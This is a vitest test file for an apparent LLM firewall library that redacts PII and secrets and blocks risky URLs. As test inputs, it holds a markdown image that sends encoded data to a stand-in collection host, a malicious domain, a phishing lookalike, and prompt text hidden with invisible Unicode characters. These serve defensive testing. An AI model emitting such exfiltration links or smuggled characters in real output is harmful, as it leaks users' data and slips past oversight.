import { describe, expect, it, vi } from 'vitest';
import { AnalyzeInputSchema, analyze, analyzeText } from './analyze.js';
import { createFirewall } from './create-firewall.js';
import { piiDetector } from './detectors/pii/pii-detector.js';
import { loadBlocklist } from './detectors/urls/load-blocklist.js';
import { DEFAULT_POLICY } from './policy/default-policy.js';
import { parsePolicy } from './policy/parse-policy.js';
import { createPseudonymVault } from './redact/create-pseudonym-vault.js';
import { FAKE } from './testing/fake-secrets.js';
import { VerdictSchema } from './verdict.js';

const piiText = 'Kontakt: max.mustermann@example.de, Tel. 0171 2345678, IBAN DE89 3704 0044 0532 0130 00.';

describe('analyzeText with the default policy', () => {
  it('allows a clean text and returns a valid verdict', () => {
    const verdict = analyzeText({ text: 'Wie backe ich ein Brot?', direction: 'input' });
    expect(VerdictSchema.parse(verdict)).toEqual(verdict);
    expect(verdict).toMatchObject({ allowed: true, action: 'allow', score: 0, findings: [] });
    expect(verdict.redactedText).toBeUndefined();
    expect(verdict.latencyMs).toBeGreaterThanOrEqual(0);
  });

  it('redacts PII in answers but only reports it in prompts', () => {
    const output = analyzeText({ text: piiText, direction: 'output' });
    expect(output.action).toBe('redact');
    expect(output.redactedText).toBe('Kontakt: [EMAIL], Tel. [PHONE], IBAN [IBAN].');
    const input = analyzeText({ text: piiText, direction: 'input' });
    expect(input).toMatchObject({ allowed: true, action: 'allow' });
    const pii = input.findings.filter((finding) => finding.detector === 'pii');
    expect(pii.map((finding) => [finding.type, finding.action])).toEqual([
      ['EMAIL', 'allow'],
      ['PHONE', 'allow'],
      ['IBAN', 'allow'],
    ]);
  });

  it('redacts secrets in every direction', () => {
    for (const direction of ['input', 'output', 'context'] as const) {
      const verdict = analyzeText({ text: `key ${FAKE.awsAccessKeyId} please`, direction });
      expect(verdict.redactedText).toBe('key [SECRET] please');
    }
  });

  it('blocks malicious and exfiltration URLs in answers, reports them elsewhere', () => {
    const text = `Fertig! ![status](https://collect.example/s.png?d=${'QWxsIHlvdXIgZGF0YQ'.repeat(5)})`;
    expect(analyzeText({ text, direction: 'output' })).toMatchObject({ allowed: false, action: 'block' });
    expect(analyzeText({ text, direction: 'context' })).toMatchObject({ allowed: true, action: 'allow' });
    expect(analyzeText({ text: 'see http://c0nden5easy.ru', direction: 'output' }).action).toBe('block');
  });

  it('only reports URL findings below the threshold', () => {
    const verdict = analyzeText({
      text: 'Router: http://192.168.1.1/ und https://paypal-login.com',
      direction: 'output',
    });
    expect(verdict.action).toBe('allow');
    expect(verdict.findings.map((finding) => [finding.type, finding.action])).toEqual([
      ['ip_host', 'allow'],
      ['lookalike_combosquat', 'allow'],
    ]);
    expect(verdict.score).toBe(0.5);
  });

  it('strips smuggled invisible characters and reports offsets in the original text', () => {
    const text = 'Ig\u200Bnore\u{E0041}\u{E0042} this';
    const verdict = analyzeText({ text, direction: 'input' });
    expect(verdict.redactedText).toBe('Ignore this');
    for (const finding of verdict.findings)
      expect(text.slice(finding.start, finding.end)).toMatch(/^[\u200B\u{E0000}-\u{E007F}]+$/u);
  });

  it('maps offsets of values found in the normalized text back to the original', () => {
    const text = 'Mail ｍａｘ@exa\u200Bmple.de – danke';
    const verdict = analyzeText({ text, direction: 'output' });
    const email = verdict.findings.find((finding) => finding.type === 'EMAIL');
    expect(text.slice(email?.start, email?.end)).toBe('ｍａｘ@exa\u200Bmple.de');
    expect(verdict.redactedText).toBe('Mail [EMAIL] – danke');
  });

  it('sorts findings by offset and keeps the highest score', () => {
    const text = `IBAN DE89 3704 0044 0532 0130 00 und key ${FAKE.githubPat}`;
    const verdict = analyzeText({ text, direction: 'output' });
    expect(verdict.findings.map((finding) => finding.detector)).toEqual(['pii', 'secrets']);
    expect(verdict.score).toBe(0.75);
  });
});

describe('policy modes and actions', () => {
  it('shadow mode reports the would-be action but lets the text pass unchanged', () => {
    const policy = parsePolicy({ version: 1, mode: 'shadow' });
    const verdict = analyzeText({ text: piiText, direction: 'output', policy });
    expect(verdict).toMatchObject({ allowed: true, action: 'redact', shadow: true });
    expect(verdict.redactedText).toBeUndefined();
    expect(verdict.findings).toHaveLength(3);
    const blocked = analyzeText({ text: 'see http://c0nden5easy.ru', direction: 'output', policy });
    expect(blocked).toMatchObject({ allowed: true, action: 'block', shadow: true });
  });

  it('off mode runs nothing', () => {
    const policy = parsePolicy({ version: 1, mode: 'off' });
    expect(analyzeText({ text: `key ${FAKE.awsAccessKeyId}`, direction: 'input', policy })).toMatchObject({
      allowed: true,
      action: 'allow',
      score: 0,
      findings: [],
    });
  });

  it('a detector can block, be disabled, or be limited to some directions', () => {
    const block = parsePolicy({ version: 1, detectors: { pii: { action: 'block' } } });
    expect(analyzeText({ text: piiText, direction: 'input', policy: block }).allowed).toBe(false);
    const piiOf = (verdict: { findings: { detector: string }[] }) =>
      verdict.findings.filter((finding) => finding.detector === 'pii');
    const disabled = parsePolicy({ version: 1, detectors: { pii: { enabled: false } } });
    expect(piiOf(analyzeText({ text: piiText, direction: 'output', policy: disabled }))).toEqual([]);
    const outputOnly = parsePolicy({ version: 1, detectors: { pii: { action: 'redact', directions: ['output'] } } });
    expect(piiOf(analyzeText({ text: piiText, direction: 'input', policy: outputOnly }))).toEqual([]);
  });

  it('pseudonymizes with a vault and restores the answer', () => {
    const policy = parsePolicy({ version: 1, detectors: { pii: { action: 'pseudonymize' } } });
    const vault = createPseudonymVault();
    const verdict = analyzeText({ text: piiText, direction: 'input', policy, vault });
    expect(verdict.redactedText).toBe('Kontakt: <EMAIL_1>, Tel. <PHONE_1>, IBAN <IBAN_1>.');
    expect(vault.restore('Ich schreibe <EMAIL_1> und überweise auf <IBAN_1>.')).toBe(
      'Ich schreibe max.mustermann@example.de und überweise auf DE89 3704 0044 0532 0130 00.',
    );
  });

  it('applies custom patterns with their own actions, banned words and the length limit', () => {
    const policy = parsePolicy({
      version: 1,
      customRegexes: [{ id: 'employee-id', pattern: 'EMP-\\d{6}', action: 'redact', category: 'pii' }],
      bannedWords: ['Projekt Falke'],
      maxLength: 40,
    });
    expect(analyzeText({ text: 'Ticket von EMP-123456', direction: 'input', policy }).redactedText).toBe(
      'Ticket von [EMPLOYEE_ID]',
    );
    expect(analyzeText({ text: 'Alles zu PROJEKT falke', direction: 'input', policy }).action).toBe('block');
    expect(analyzeText({ text: 'x'.repeat(41), direction: 'input', policy }).action).toBe('block');
    const truncate = parsePolicy({ version: 1, maxLength: 5, detectors: { 'max-length': { action: 'redact' } } });
    expect(analyzeText({ text: 'abcdefgh', direction: 'output', policy: truncate }).redactedText).toBe('abcde');
  });

  it('blocks when a detector throws (fail closed) and says which', () => {
    const spy = vi.spyOn(piiDetector, 'detect').mockImplementation(() => {
      throw new Error('boom');
    });
    try {
      const verdict = analyzeText({ text: 'hello', direction: 'output' });
      expect(verdict).toMatchObject({ allowed: false, action: 'block' });
      expect(verdict.findings).toEqual([
        expect.objectContaining({ detector: 'pii', type: 'detector_error', message: 'detector failed: boom' }),
      ]);
    } finally {
      spy.mockRestore();
    }
  });

  it('drops findings inside allowlisted patterns', () => {
    const policy = parsePolicy({ version: 1, allowlist: { patterns: ['support@sigmacode\\.example'] } });
    const verdict = analyzeText({
      text: 'Schreib an support@sigmacode.example oder jane@example.org',
      direction: 'output',
      policy,
    });
    expect(verdict.redactedText).toBe('Schreib an support@sigmacode.example oder [EMAIL]');
  });
});

describe('analyze, createFirewall and the input schema', () => {
  it('analyze resolves to the same verdict as analyzeText', async () => {
    const verdict = await analyze({ text: piiText, direction: 'output' });
    expect(verdict.redactedText).toBe(analyzeText({ text: piiText, direction: 'output' }).redactedText);
  });

  it('createFirewall validates its policy and adds blocklists', async () => {
    expect(() => createFirewall({ policy: { version: 1, mode: 'loud' } })).toThrow(/policy is invalid/);
    const firewall = createFirewall({ blocklists: { malicious: [loadBlocklist({ text: 'bad.example' })] } });
    expect(firewall.policy).toBe(DEFAULT_POLICY);
    expect((await firewall.analyze({ text: 'go to https://www.bad.example/x', direction: 'output' })).action).toBe(
      'block',
    );
    expect(firewall.analyzeText({ text: 'go to http://c0nden5easy.ru', direction: 'output' }).action).toBe('block');
  });

  it('AnalyzeInputSchema validates what the HTTP service receives', () => {
    expect(
      AnalyzeInputSchema.safeParse({ text: 'hi', direction: 'input', conversationTerms: ['falcon'] }).success,
    ).toBe(true);
    expect(AnalyzeInputSchema.safeParse({ text: 'hi', direction: 'sideways' }).success).toBe(false);
    expect(
      AnalyzeInputSchema.safeParse({ text: 'hi', direction: 'input', policy: { version: 1, mode: 'x' } }).success,
    ).toBe(false);
  });
});
